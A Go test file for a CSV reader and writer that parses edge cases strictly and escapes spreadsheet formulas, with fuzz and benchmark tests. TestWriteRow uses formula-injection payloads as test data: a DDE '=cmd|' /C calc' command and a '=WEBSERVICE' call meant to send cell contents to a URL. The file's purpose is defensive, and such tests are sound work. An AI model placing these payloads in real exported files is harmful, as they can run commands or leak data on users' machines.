package strict_test

import (
	"bufio"
	"bytes"
	"errors"
	"fmt"
	"io"
	"reflect"
	"regexp"
	"slices"
	"strings"
	"testing"
	"testing/iotest"

	"pgregory.net/rapid"

	"lifeboat/internal/strict"
)

// readAll renders every row and every error with its line.
func readAll(t testing.TB, r io.Reader) (out []string) {
	for reader := strict.NewReader(r); ; {
		row, line, err := reader.Read()
		var bad *strict.RowError
		switch {
		case err == io.EOF:
			return out
		case errors.As(err, &bad):
			if !errors.Is(err, strict.ErrRow) || bad.Line != line || row != nil {
				t.Errorf("row error %v at line %d with row %q", err, line, row)
			}
			out = append(out, err.Error())
		case err != nil:
			t.Fatal(err)
		default:
			out = append(out, fmt.Sprintf("%d %q", line, row))
		}
	}
}

func TestReader(t *testing.T) {
	for _, c := range []struct {
		name, in string
		want     []string
	}{
		{"nothing", "", nil},
		{"blank lines", "\n \r\n\t\n", nil},
		{"plain", "a,b\nc,d\n", []string{`1 ["a" "b"]`, `2 ["c" "d"]`}},
		{"mark, CRLF, no end", "\xef\xbb\xbfa,b\r\n\r\nc,d", []string{`1 ["a" "b"]`, `3 ["c" "d"]`}},
		{"mark before a quote", "\xef\xbb\xbf\"a\",b", []string{`1 ["a" "b"]`}},
		{"semicolons", "a;b,b;c\nx,y;z", []string{`1 ["a" "b,b" "c"]`, `2 ["x,y" "z"]`}},
		{"tabs", "a\tb\t\t\n \"c\" \t d", []string{`1 ["a" "b" "" ""]`, `2 ["c" "d"]`}},
		{"tie", "a,b;c", []string{`1 ["a" "b;c"]`}},
		{"separator in quotes", "\"a;;;\",b", []string{`1 ["a;;;" "b"]`}},
		{"blanks", "  a\u00a0, \" b \"\t,c \n", []string{`1 ["a" "b" "c"]`}},
		{"quotes", `"a,""b""","",""""` + "\n", []string{`1 ["a,\"b\"" "" "\""]`}},
		{"empty cells", ",\n,,", []string{`1 ["" ""]`, `2 ["" "" ""]`}},
		{"lone CR stays", "x,y\na\rb,c", []string{`1 ["x" "y"]`, `2 ["a\rb" "c"]`}},
		{"CR", "\xef\xbb\xbfa,b\r\rc,\"d\re\"\rf,g", []string{`1 ["a" "b"]`, `3 ["c" "d\ne"]`, `5 ["f" "g"]`}},
		{"CR and a last LF", "a,b\rc,d\r\n", []string{`1 ["a" "b"]`, `2 ["c" "d"]`}},
		{"CR CR LF", "a,b\r\r\n\"c\",d\r\r\n", []string{`1 ["a" "b"]`, `3 ["c" "d"]`}},
		{"lines in quotes", "a,b\n\"one\ntwo\",\"three\r\n\n\"\"four\"\"\n\"\r\ne,f", []string{`1 ["a" "b"]`, `2 ["one\ntwo" "three\n\n\"four\""]`, `7 ["e" "f"]`}},
		{"lines in quotes to the end", "\"one\ntwo\"", []string{`1 ["one\ntwo"]`}},
		{"quotes that come out even too late", "a,\"b\nc,d\n\"e\",\"f\"\ng", []string{"line 1: a quote is not closed on its line", `2 ["c" "d"]`, `3 ["e" "f"]`, `4 ["g"]`}},
		{"two stray quotes", "a,\"b\nc\"d,e\nf", []string{"line 1: a quote is not closed on its line", "line 2: a quote inside a cell that does not start with one", `3 ["f"]`}},
		{"a cell longer than a row", "\"" + strings.Repeat("x\n", strict.MaxRow) + "\"", append([]string{"line 1: a quote is not closed on its line"}, append(countedLines(2, strict.MaxRow-1, `["x"]`), fmt.Sprintf("line %d: a quote is not closed on its line", strict.MaxRow+1))...)},
		{"quotes that would swallow a row", "a,b,c\n1,\"2,3\n4,5\",6\n7,8,9\n", []string{`1 ["a" "b" "c"]`, "line 2: a quote is not closed on its line", "line 3: a quote inside a cell that does not start with one", `4 ["7" "8" "9"]`}},
		{"commas in lines in quotes", "a,b,c\n1,\"2, and\nmore\",\n\"x,y\nz\",8,9\n", []string{`1 ["a" "b" "c"]`, `2 ["1" "2, and\nmore" ""]`, `4 ["x,y\nz" "8" "9"]`}},
		{"a NUL in lines", "\"a\n\x00\n\"", []string{"line 1: a quote is not closed on its line", "line 2: a NUL byte", "line 3: a quote is not closed on its line"}},
		{"sep", "sep=;\r\na;b,c\r\n", []string{`2 ["a" "b,c"]`}},
		{"sep in quotes", "\xef\xbb\xbf\"SEP=,\",,\na,b;c;d\n", []string{`2 ["a" "b;c;d"]`}},
		{"sep is a tab", "sep=\t\na\tb,c,d\n", []string{`2 ["a" "b,c,d"]`}},
		{"no sep", "sep=x,y\nsep=;\n", []string{`1 ["sep=x" "y"]`, `2 ["sep=;"]`}},
		{"text formulas", `"=""a""",="b,c","=""d""""e""","=""f""+1",="g"h` + "\n=\"i\",\"=\"", []string{"line 1: text after a closing quote", `2 ["i" "="]`}},
		{"more text formulas", `"=""a""",="b,c","=""d""""""""e""","=""f""+1"`, []string{`1 ["a" "b,c" "d\"\"e" "=\"f\"+1"]`}},
		{"UTF-16", "\xff\xfea\x00,\x00\xac\x20\x3d\xd8\x00\xde\r\x00\n\x00b\x00", []string{`1 ["a" "€😀"]`, `2 ["b"]`}},
		{"UTF-16, big-endian", "\xfe\xff\x00a\x00,\xd8\x3d\x00b\x00\n\xd8\x3d", []string{`1 ["a" "�b"]`, `2 ["�"]`}},
		{"UTF-16 without a mark", "a\x00,\x00\xac\x20\n\x00", []string{"line 1: a NUL byte", "line 2: a NUL byte"}},
		{"UTF-16 without a mark, of ASCII", "c\x00o\x00i\x00n\x00,\x00H\x00D\x00 \x00\xac\x20\x0a\x01\n\x00b\x00", []string{`1 ["coin" "HD €Ċ"]`, `2 ["b"]`}},
		{"UTF-16 without a mark, big-endian", "\x00c\x00o\x00i\x00n\x00,\x00H\x00D\x00 \x20\xac\x00\n\x00b", []string{`1 ["coin" "HD €"]`, `2 ["b"]`}},
		{"NULs and letters", "a\x00,\x00b\x00,\x00c\x00,\x00d\x00\x00\x00\nb,c", []string{"line 1: a NUL byte", `2 ["b" "c"]`}},
		{"half of UTF-16", "\xff\xfea\x00b", []string{`1 ["a�"]`}},
		{"stray quote", "a,b\n\"c,d\ne,f\n", []string{`1 ["a" "b"]`, "line 2: a quote is not closed on its line", `3 ["e" "f"]`}},
		{"quote in a cell", "a,b\nc\"d,e\"\nf,g", []string{`1 ["a" "b"]`, "line 2: a quote inside a cell that does not start with one", `3 ["f" "g"]`}},
		{"after the quote", "\"a\"b,c\nd,e", []string{"line 1: text after a closing quote", `2 ["d" "e"]`}},
		{"NUL", "a,\x00\nb,c", []string{"line 1: a NUL byte", `2 ["b" "c"]`}},
		{"another encoding", "a,\xff\nb,c", []string{`1 ["a" "\xff"]`, `2 ["b" "c"]`}},
		{"fields", strings.Repeat(",", 255) + "\n" + strings.Repeat(",", 256) + "\nb", []string{
			"1 [" + strings.Repeat(`"" `, 255) + `""]`, "line 2: more than 256 fields", `3 ["b"]`}},
		{"field", "a\n" + strings.Repeat("x", strict.MaxField+1) + "\nb", []string{`1 ["a"]`, "line 2: field 1 is longer than 16 KiB", `3 ["b"]`}},
		{"row", "a\n" + strings.Repeat("x", strict.MaxRow+1) + "\nb", []string{`1 ["a"]`, "line 2: longer than 64 KiB", `3 ["b"]`}},
		{"row and more", strings.Repeat("x", 5*strict.MaxRow) + "\nb\n" + strings.Repeat("y", 3*strict.MaxRow), []string{"line 1: longer than 64 KiB", `2 ["b"]`, "line 3: longer than 64 KiB"}},
	} {
		for _, r := range []io.Reader{strings.NewReader(c.in), iotest.OneByteReader(strings.NewReader(c.in)), iotest.DataErrReader(strings.NewReader(c.in))} {
			if got := readAll(t, r); !slices.Equal(got, c.want) {
				t.Errorf("%s:\n got %.300q\nwant %.300q", c.name, got, c.want)
			}
		}
	}
}

// countedLines are the rows with one text on lines from and following.
func countedLines(from, count int, row string) (lines []string) {
	for i := range count {
		lines = append(lines, fmt.Sprintf("%d %s", from+i, row))
	}
	return lines
}

// The longest row that fits must fit whatever ends it.
func TestReaderLongestRow(t *testing.T) {
	cell := strings.Repeat("x", strict.MaxRow/8-1)
	text := strings.Repeat(cell+",", 7) + cell + "y"
	if len(text) != strict.MaxRow {
		t.Fatal(len(text))
	}
	for _, end := range []string{"", "\n", "\r\n"} {
		row, _, err := strict.NewReader(strings.NewReader(text + end)).Read()
		if err != nil || len(row) != 8 {
			t.Errorf("%q: %d cells, %v", end, len(row), err)
		}
	}
}

func TestReaderPassesErrorsOn(t *testing.T) {
	broken := errors.New("stick pulled")
	r := strict.NewReader(io.MultiReader(strings.NewReader("a,b\nc"), iotest.ErrReader(broken)))
	if row, _, err := r.Read(); err != nil || len(row) != 2 {
		t.Fatal(row, err)
	}
	if row, _, err := r.Read(); err != broken {
		t.Errorf("half a row was taken for one: %q, %v", row, err)
	}
}

// A million rows must not cost more memory than one.
func TestReaderKeepsNothing(t *testing.T) {
	line := []byte("wallet,ETH,0x52908400098527886E0F7030069857D2E4169EE7,m/44/60/0/0/7\n")
	r := strict.NewReader(&repeat{line: line, n: 1000})
	first, _, err := r.Read()
	if err != nil {
		t.Fatal(err)
	}
	want := slices.Clone(first)
	allocs := testing.AllocsPerRun(500, func() { r.Read() })
	if allocs > 2 || !slices.Equal(first, want) {
		t.Errorf("%v allocations a row; first row is now %q", allocs, first)
	}
}

type repeat struct {
	line []byte
	n    int
}

func (r *repeat) Read(p []byte) (int, error) {
	if r.n == 0 {
		return 0, io.EOF
	}
	r.n--
	return copy(p, r.line), nil
}

func TestWriteRow(t *testing.T) {
	for _, c := range []struct {
		cells []string
		want  string
	}{
		{[]string{"a", "b c", ""}, "a,b c,\n"},
		{[]string{""}, "\"\"\n"},
		{[]string{"a,b", "a;b", "a\tb", `a"b`}, "\"a,b\",\"a;b\",a\\tb,\"a\"\"b\"\n"},
		{[]string{"=1+1", "ok", "", "'=1"}, "'=1+1,ok,,'=1\n"},
		{[]string{"+1", "-1", "@a", "a=1", "m/44/60/0/0/0"}, "'+1,'-1,'@a,a=1,m/44/60/0/0/0\n"},
		{[]string{"＝1", "＋1", "－1", "＠a", "﹦﹢﹣﹫"}, "'＝1,'＋1,'－1,'＠a,'﹦﹢﹣﹫\n"},
		{[]string{"\tx", "\rx", "\t=x", "\u200b=x", "a\u202eb\x1b\x00"}, `\tx,\rx,\t=x,\u200b=x,a\u202eb\x1b\x00` + "\n"},
		{[]string{"two\nlines"}, "\"two\nlines\"\n"},
		// GBK, Shift-JIS and Windows-1252 stay as they are, but for formulas, wide ones too.
		{[]string{"\xb1\xb8\xd3\xc3", "\x95\x5c,\x1b", "caf\xe9\x9b"}, "\xb1\xb8\xd3\xc3,\"\x95\x5c,\\x1b\",caf\xe9\x9b\n"},
		{[]string{"=\xd3\xc3", "\xa3\xbd1", "\x81\x811", "a;\xa3\xab1", "\xa2\x491\xff", "\xa1\xe1\xff"}, "'=\xd3\xc3,'\xa3\xbd1,'\x81\x811,\"a;'\xa3\xab1\",'\xa2\x491\xff,'\xa1\xe1\xff\n"},
		// Where a semicolon parts cells, these quotes are text, and B1 has the rest.
		{[]string{"w", ";http://example.org/;=WEBSERVICE(B1&D1);x"}, "w,\";http://example.org/;'=WEBSERVICE(B1&D1);x\"\n"},
		{[]string{"w", "a\n=cmd|' /C calc'!A0;x", "b\r\n \xa3\xbd1"}, "w,\"a\n'=cmd|' /C calc'!A0;x\",\"b\\r\n '\xa3\xbd1\"\n"},
		{[]string{"w", `a;"=B1;x`}, `w,"a;""'=B1;x"` + "\n"},
		{[]string{"a; =1", "a\t@b", "a;b=c", "a b;-"}, "\"a; '=1\",a\\t@b,\"a;b=c\",\"a b;'-\"\n"},
	} {
		var b bytes.Buffer
		w := bufio.NewWriter(&b)
		if err := strict.WriteRow(w, c.cells); err != nil || w.Flush() != nil || b.String() != c.want {
			t.Errorf("%q: %q, %v", c.cells, b.String(), err)
		}
	}
	if got := string(strict.AppendCell(nil, "-----BEGIN")); got != "-----BEGIN" {
		t.Errorf("a cell of our own became %q", got)
	}
}

func TestRoundTrip(t *testing.T) {
	cell := rapid.StringMatching(`([!-~é]([ -~é]{0,10}[!-~é])?)?`).Filter(func(s string) bool {
		return !regexp.MustCompile(`(^|;)[ "]*[=+@-]`).MatchString(s) // no formula
	})
	rapid.Check(t, func(t *rapid.T) {
		rows := rapid.SliceOfN(rapid.SliceOfN(cell, 1, 6), 1, 5).Draw(t, "rows")
		var b bytes.Buffer
		w := bufio.NewWriter(&b)
		strict.WriteRow(w, []string{"header", "header"})
		for _, row := range rows {
			strict.WriteRow(w, row)
		}
		w.Flush()
		r := strict.NewReader(&b)
		r.Read()
		for i, want := range rows {
			got, line, err := r.Read()
			if err != nil || line != i+2 || !reflect.DeepEqual(got, want) {
				t.Fatalf("row %d: %q at line %d, %v; want %q", i, got, line, err, want)
			}
		}
	})
}

func FuzzReader(f *testing.F) {
	for _, seed := range []string{"", "a,b\r\nc;d", "\"a\"\"", "\"\n\"", "\xef\xbb\xbf;\t", "a\x00", "\xff\n,", `"a" ,"b"`, "\t\"x\"\t",
		"a,b\rc,\"d\re\"\r", "a,\"b\nc\"\nd,\"e", "sep=;\na;b", `="a","=""b"""`, "\xff\xfea\x00,\x00=\xd8\n\x00", "\xfe\xff\x00a\x00\n\xd8"} {
		f.Add([]byte(seed))
	}
	f.Fuzz(func(t *testing.T, data []byte) {
		r := strict.NewReader(bytes.NewReader(data))
		rows, last := 0, 0
		for {
			row, line, err := r.Read()
			if err == io.EOF {
				break
			}
			if line <= last || len(row) > strict.MaxFields || err != nil && !errors.Is(err, strict.ErrRow) {
				t.Fatalf("line %d after %d, %d cells, %v", line, last, len(row), err)
			}
			rows, last = rows+1, line
		}
		if lines := bytes.Count(data, []byte("\n")) + bytes.Count(data, []byte("\r")) + 1; rows > lines {
			t.Errorf("%d rows in %d lines", rows, lines)
		}
	})
}

func BenchmarkReader(b *testing.B) {
	line := []byte("wallet,ETH,0x52908400098527886E0F7030069857D2E4169EE7,,label,m/44/60/0/0/7,xpub661MyMwAqRbcFtXgS5sYJABqqG9YLmC4Q1Rdap9gSE8NqtwybGhePY2gZ29ESFjqJoCu1Rupje8YtGqsefD265TMg7usUDFdp6W1EGMcet8\n")
	b.SetBytes(int64(len(line)))
	r := strict.NewReader(&repeat{line: line, n: -1})
	for b.Loop() {
		if _, _, err := r.Read(); err != nil {
			b.Fatal(err)
		}
	}
}
